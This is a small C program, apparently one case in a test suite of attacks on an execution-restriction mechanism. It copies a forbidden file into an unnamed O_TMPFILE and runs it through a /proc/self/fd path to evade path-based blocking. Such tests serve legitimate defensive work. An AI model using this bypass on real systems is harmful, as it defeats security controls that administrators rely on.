/* A copy in a file that never had a name (O_TMPFILE). */
#include "../attack.h"
int main(void)
{
	char path[64];
	int to = open(".", O_TMPFILE | O_RDWR, 0755);
	if (sendfile(to, open(FORBIDDEN, O_RDONLY), NULL, 1 << 26) < 0)
		return 1;
	snprintf(path, sizeof path, "/proc/self/fd/%d", to);
	int again = open(path, O_RDONLY);
	close(to);
	snprintf(path, sizeof path, "/proc/self/fd/%d", again);
	return run_file(path), 1;
}
